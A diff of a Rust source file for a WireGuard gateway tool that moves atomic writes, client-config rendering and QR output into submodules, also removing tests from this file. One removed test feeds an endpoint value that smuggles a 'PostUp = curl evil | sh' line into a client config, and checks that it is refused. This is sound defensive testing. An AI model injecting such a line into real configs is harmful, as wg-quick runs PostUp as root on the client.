@@ -2,21 +2,27 @@
 //! out client configs.
 //!
 //! Edits are validated as a whole config before anything is written, and
-//! written atomically (temp file in the same directory, then rename), so
-//! the watching gateway never reads a half-written file. The temp file has
-//! an unpredictable name and is created exclusively without following
-//! symlinks; the result keeps the original file's mode (a 0600 config that
-//! holds a key stays 0600), and a new file that holds a secret is 0600. With `peers_dir`
-//! each peer is its own file; otherwise the `[[peer]]` table is appended to
-//! or removed from the main config with `toml_edit`, which keeps comments
-//! and layout.
+//! written atomically (`atomic_write`), so the watching gateway never reads
+//! a half-written file. With `peers_dir` each peer is its own file;
+//! otherwise the `[[peer]]` table is appended to or removed from the main
+//! config with `toml_edit`, which keeps comments and layout. The client
+//! config handed out is rendered and checked in `client`.
 
 use crate::config::{self, Config, ConfigErrors, EndpointError, Role};
 use crate::keys::{KeyError, PrivateKey, decode_key, encode_key};
 use ipnet::IpNet;
-use std::io::Write as _;
 use std::net::IpAddr;
 use std::path::{Path, PathBuf};
+
+mod atomic_write;
+mod client;
+#[cfg(test)]
+mod tests;
+
+pub use self::atomic_write::FileError;
+pub(crate) use self::atomic_write::io;
+use self::atomic_write::write_atomically;
+pub(crate) use self::client::{PRIVATE_KEY_PLACEHOLDER, client_config, qr_png, qr_terminal};
 
 /// Why `peer add`, `peer remove` or `peer list` changed nothing.
 #[derive(Debug, thiserror::Error)]
@@ -75,31 +81,6 @@ pub enum OnboardingError {
 }
 
 type Result<T, E = OnboardingError> = std::result::Result<T, E>;
-
-/// An I/O error, with what was being done ("reading", "writing"...) to
-/// which file. Shared with the quickstart, which writes files the same way.
-#[derive(Debug, thiserror::Error)]
-#[error("{action} {}", .path.display())]
-pub struct FileError {
-    action: &'static str,
-    path: PathBuf,
-    #[source]
-    source: std::io::Error,
-}
-
-/// For `map_err`: wraps an I/O error with what was being done to `path`.
-pub(crate) fn io(action: &'static str, path: &Path) -> impl FnOnce(std::io::Error) -> FileError {
-    let path = path.to_path_buf();
-    move |source| FileError {
-        action,
-        path,
-        source,
-    }
-}
-
-/// Placeholder written where the client's private key goes when promgate
-/// never saw it (`--public-key`).
-pub(crate) const PRIVATE_KEY_PLACEHOLDER: &str = "<CLIENT_PRIVATE_KEY>";
 
 /// What `peer add` needs.
 pub struct AddPeer {
@@ -226,39 +207,6 @@ pub(crate) fn peer_toml(name: &str, public_key: &str, address: IpNet, role: Role
     )
 }
 
-/// A client config in wg-quick format. `[Peer] AllowedIPs` holds only the
-/// gateway's own tunnel addresses: nothing else is reachable through it, so
-/// routing more would only black-hole the client's traffic.
-///
-/// wg-quick runs `PostUp` lines as root, so a value with a line break
-/// would be code execution on the client: every string is checked here,
-/// last, whatever validated it before.
-pub(crate) fn client_config(
-    private_key: &str,
-    address: IpNet,
-    gateway_public: &str,
-    endpoint: &str,
-    gateway_hosts: &[IpNet],
-) -> Result<String> {
-    config::check_endpoint(endpoint).map_err(|reason| OnboardingError::Endpoint {
-        flag: "endpoint",
-        reason,
-    })?;
-    for (what, v) in [
-        ("private key", private_key),
-        ("gateway public key", gateway_public),
-    ] {
-        if v.is_empty() || !v.bytes().all(|b| b.is_ascii_graphic()) {
-            return Err(OnboardingError::UnsafeClientConfig { what });
-        }
-    }
-    let allowed: Vec<String> = gateway_hosts.iter().map(|n| n.to_string()).collect();
-    Ok(format!(
-        "[Interface]\nPrivateKey = {private_key}\nAddress = {address}\n\n[Peer]\nPublicKey = {gateway_public}\nEndpoint = {endpoint}\nAllowedIPs = {}\nPersistentKeepalive = 25\n",
-        allowed.join(", ")
-    ))
-}
-
 /// Removes a peer by name from the peers directory or the main config.
 pub(crate) fn remove_peer(config_path: &Path, name: &str) -> Result<PathBuf> {
     let cfg = load(config_path)?;
@@ -312,48 +260,6 @@ pub(crate) fn list_peers(config_path: &Path) -> Result<Vec<PeerListRow>> {
         .collect())
 }
 
-/// Renders a client config as a QR code for a terminal.
-pub(crate) fn qr_terminal(text: &str) -> Option<String> {
-    let code = qrcode::QrCode::new(text.as_bytes()).ok()?;
-    Some(
-        code.render::<qrcode::render::unicode::Dense1x2>()
-            .quiet_zone(true)
-            .build(),
-    )
-}
-
-/// Writes a client config as a QR code PNG.
-pub(crate) fn qr_png(text: &str, path: &Path) -> Result<()> {
-    let code = qrcode::QrCode::new(text.as_bytes()).map_err(OnboardingError::QrTooLarge)?;
-    let image = code
-        .render::<image::Luma<u8>>()
-        .min_dimensions(400, 400)
-        .build();
-    let mut png = Vec::new();
-    image
-        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
-        .map_err(OnboardingError::QrEncoding)?;
-    // The code may hold the client's private key: owner-only, and never
-    // through a symlink someone planted at that path.
-    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
-    let mut f = std::fs::OpenOptions::new()
-        .write(true)
-        .create(true)
-        .truncate(true)
-        .mode(0o600)
-        .custom_flags(O_NOFOLLOW)
-        .open(path)
-        .map_err(io("writing", path))?;
-    f.set_permissions(std::fs::Permissions::from_mode(0o600))
-        .map_err(io("setting the mode of", path))?;
-    f.write_all(&png).map_err(io("writing", path))?;
-    Ok(())
-}
-
-/// `O_NOFOLLOW` on Linux (all architectures we ship for): open fails on a
-/// symlink instead of following it.
-const O_NOFOLLOW: i32 = 0o400000;
-
 fn load(path: &Path) -> Result<Config> {
     config::load(path).map_err(|errors| OnboardingError::InvalidConfig {
         path: path.to_path_buf(),
@@ -395,251 +301,4 @@ fn next_free_address(cfg: &Config, net: IpNet) -> Option<IpAddr> {
     };
     // IPv6 prefixes are huge; 65,536 candidates are more than any gateway needs.
     net.hosts().take(65_536).find(|ip| !taken(*ip))
-}
-
-/// The mode a rewritten file gets: the old file's, or for a new file 0600
-/// when it holds a secret (an inline or preshared key) and 0644 otherwise.
-fn mode_for(path: &Path, contents: &str) -> u32 {
-    use std::os::unix::fs::PermissionsExt as _;
-    match std::fs::metadata(path) {
-        Ok(m) => m.permissions().mode() & 0o7777,
-        Err(_) if holds_secret(contents) => 0o600,
-        Err(_) => 0o644,
-    }
-}
-
-fn holds_secret(contents: &str) -> bool {
-    contents.lines().any(|l| {
-        let key = l.split('=').next().unwrap_or("").trim();
-        key == "private_key" || key == "preshared_key"
-    })
-}
-
-fn write_atomically(path: &Path, contents: &str) -> Result<()> {
-    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
-    let dir = path.parent().unwrap_or(Path::new("."));
-    let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("peers");
-    let mode = mode_for(path, contents);
-    // A dot-name is skipped by the peers_dir reader, so a crash never leaves
-    // a half peer behind. The name is unpredictable and the file is created
-    // exclusively (O_EXCL, no symlink followed), so nobody can plant a file
-    // or link there beforehand.
-    let suffix = rand_core::RngCore::next_u64(&mut rand_core::OsRng);
-    let tmp = dir.join(format!(".{name}.tmp-{suffix:016x}"));
-    let write = || -> Result<()> {
-        let mut f = std::fs::OpenOptions::new()
-            .write(true)
-            .create_new(true)
-            .mode(0o600)
-            .custom_flags(O_NOFOLLOW)
-            .open(&tmp)
-            .map_err(io("creating", &tmp))?;
-        f.write_all(contents.as_bytes())
-            .map_err(io("writing", &tmp))?;
-        // Exactly the old mode, whatever the umask.
-        f.set_permissions(std::fs::Permissions::from_mode(mode))
-            .map_err(io("setting the mode of", &tmp))?;
-        f.sync_all().map_err(io("writing", &tmp))?;
-        std::fs::rename(&tmp, path).map_err(|source| OnboardingError::Rename {
-            from: tmp.clone(),
-            to: path.to_path_buf(),
-            source,
-        })?;
-        Ok(())
-    };
-    let r = write();
-    if r.is_err() {
-        let _ = std::fs::remove_file(&tmp);
-    }
-    r
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn setup(tag: &str, peers_dir: bool) -> PathBuf {
-        let dir =
-            std::env::temp_dir().join(format!("promgate-onboard-{tag}-{}", std::process::id()));
-        let _ = std::fs::remove_dir_all(&dir);
-        std::fs::create_dir_all(dir.join("peers.d")).unwrap();
-        std::fs::write(dir.join("private.key"), PrivateKey::generate().to_base64()).unwrap();
-        let extra = if peers_dir {
-            "peers_dir = \"peers.d\"\n"
-        } else {
-            ""
-        };
-        let text = format!(
-            "# operator's comment stays\n[gateway]\nprivate_key_file = \"private.key\"\naddress = \"10.13.13.1/24\"\nendpoint = \"vpn.example.com:51820\"\n{extra}\n[[peer]]\nname = \"alice\" # alice's laptop\npublic_key = \"{}\"\nallowed_ips = [\"10.13.13.2/32\"]\n",
-            encode_key(PrivateKey::generate().public_key().as_bytes())
-        );
-        std::fs::write(dir.join("promgate.toml"), text).unwrap();
-        dir.join("promgate.toml")
-    }
-
-    fn req(name: &str) -> AddPeer {
-        AddPeer {
-            name: name.into(),
-            public_key: None,
-            ip: None,
-            endpoint: None,
-            role: Role::Viewer,
-        }
-    }
-
-    #[test]
-    fn add_to_main_config_keeps_comments_and_allocates_next_address() {
-        let path = setup("main", false);
-        let added = add_peer(&path, &req("bob")).unwrap();
-        assert!(
-            added.client_config.contains("Address = 10.13.13.3/32"),
-            "{}",
-            added.client_config
-        );
-        assert!(added.client_config.contains("AllowedIPs = 10.13.13.1/32"));
-        assert!(
-            added
-                .client_config
-                .contains("Endpoint = vpn.example.com:51820")
-        );
-        assert!(added.client_config.contains("PersistentKeepalive = 25"));
-        let text = std::fs::read_to_string(&path).unwrap();
-        assert!(text.contains("# operator's comment stays") && text.contains("# alice's laptop"));
-        let cfg = config::load(&path).unwrap();
-        assert_eq!(cfg.peers.len(), 2);
-
-        // Removing keeps alice's comment too.
-        remove_peer(&path, "bob").unwrap();
-        let text = std::fs::read_to_string(&path).unwrap();
-        assert!(
-            text.contains("# alice's laptop") && !text.contains("\"bob\""),
-            "{text}"
-        );
-    }
-
-    #[test]
-    fn add_to_peers_dir_with_public_key_never_holds_a_private_key() {
-        let path = setup("dir", true);
-        let client = PrivateKey::generate();
-        let mut r = req("carol");
-        r.public_key = Some(encode_key(client.public_key().as_bytes()));
-        r.ip = Some("10.13.13.77".parse().unwrap());
-        let added = add_peer(&path, &r).unwrap();
-        assert_eq!(
-            added.written,
-            path.parent().unwrap().join("peers.d/carol.toml")
-        );
-        assert!(added.client_config.contains(PRIVATE_KEY_PLACEHOLDER));
-        assert!(added.client_config.contains("Address = 10.13.13.77/32"));
-        assert!(!added.client_config.contains(&client.to_base64()));
-        assert_eq!(config::load(&path).unwrap().peers.len(), 2);
-        remove_peer(&path, "carol").unwrap();
-        assert!(!path.parent().unwrap().join("peers.d/carol.toml").exists());
-    }
-
-    #[test]
-    fn refusals_name_the_problem() {
-        let path = setup("refuse", true);
-        let e = add_peer(&path, &req("alice")).err().unwrap().to_string();
-        assert!(e.contains("already exists"), "{e}");
-        let mut r = req("dave");
-        r.ip = Some("10.13.13.2".parse().unwrap());
-        let e = add_peer(&path, &r).err().unwrap().to_string();
-        assert!(e.contains("overlaps"), "{e}");
-        let e = remove_peer(&path, "nobody").err().unwrap().to_string();
-        assert!(e.contains("no peer named"), "{e}");
-    }
-
-    fn mode_of(p: &Path) -> u32 {
-        use std::os::unix::fs::PermissionsExt as _;
-        std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
-    }
-
-    fn set_mode(p: &Path, mode: u32) {
-        use std::os::unix::fs::PermissionsExt as _;
-        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
-    }
-
-    #[test]
-    fn add_and_remove_keep_the_config_s_mode() {
-        let path = setup("mode", false);
-        set_mode(&path, 0o600);
-        add_peer(&path, &req("bob")).unwrap();
-        assert_eq!(mode_of(&path), 0o600, "peer add widened a 0600 config");
-        remove_peer(&path, "bob").unwrap();
-        assert_eq!(mode_of(&path), 0o600, "peer remove widened a 0600 config");
-        set_mode(&path, 0o640);
-        add_peer(&path, &req("carol")).unwrap();
-        assert_eq!(mode_of(&path), 0o640);
-        // No temp file is left behind.
-        let dir = path.parent().unwrap();
-        let leftovers: Vec<_> = std::fs::read_dir(dir)
-            .unwrap()
-            .filter_map(|e| e.ok())
-            .filter(|e| e.file_name().to_string_lossy().contains(".tmp-"))
-            .collect();
-        assert!(leftovers.is_empty(), "{leftovers:?}");
-    }
-
-    #[test]
-    fn new_files_that_hold_a_secret_are_owner_only() {
-        let dir = std::env::temp_dir().join(format!("promgate-secret-{}", std::process::id()));
-        let _ = std::fs::remove_dir_all(&dir);
-        std::fs::create_dir_all(&dir).unwrap();
-        let f = dir.join("p.toml");
-        write_atomically(&f, "[[peer]]\npreshared_key = \"x\"\n").unwrap();
-        assert_eq!(mode_of(&f), 0o600);
-        let g = dir.join("q.toml");
-        write_atomically(&g, "[[peer]]\nname = \"q\"\n").unwrap();
-        assert_eq!(mode_of(&g), 0o644);
-        // The QR code holds the client's private key.
-        let png = dir.join("qr.png");
-        qr_png("[Interface]\nPrivateKey = abc\n", &png).unwrap();
-        assert_eq!(mode_of(&png), 0o600);
-        // A symlink planted at the PNG path is not followed.
-        let target = dir.join("elsewhere");
-        std::fs::write(&target, "keep").unwrap();
-        let link = dir.join("link.png");
-        std::os::unix::fs::symlink(&target, &link).unwrap();
-        assert!(qr_png("x", &link).is_err());
-        assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
-    }
-
-    #[test]
-    fn endpoints_that_could_inject_config_lines_are_refused() {
-        let path = setup("endpoint", true);
-        for bad in [
-            "vpn.example.com:51820\nPostUp = curl evil | sh",
-            "vpn.example.com:51820\r",
-            "vpn example.com:51820",
-            "vpn.example.com",
-            "vpn.example.com:0",
-            "fd00::1:51820",
-        ] {
-            let mut r = req("eve");
-            r.endpoint = Some(bad.into());
-            let e = add_peer(&path, &r).err().map(|e| e.to_string());
-            assert!(
-                e.as_deref().is_some_and(|e| e.contains("--endpoint")),
-                "{bad:?}: {e:?}"
-            );
-        }
-        for good in [
-            "vpn.example.com:51820",
-            "203.0.113.7:443",
-            "[fd00::1]:51820",
-        ] {
-            assert_eq!(config::check_endpoint(good), Ok(()), "{good}");
-        }
-        // The same check guards the config file.
-        let text = std::fs::read_to_string(&path).unwrap().replace(
-            "vpn.example.com:51820",
-            "vpn.example.com:51820\\nPostUp = id",
-        );
-        let e = config::parse(&path, &text).err().unwrap().to_string();
-        assert!(e.contains("gateway.endpoint"), "{e}");
-        // And the renderer refuses it whatever called it.
-        let host: IpNet = "10.13.13.9/32".parse().unwrap();
-        assert!(client_config("k", host, "g", "a:1\nPostUp = id", &[host]).is_err());
-    }
 }
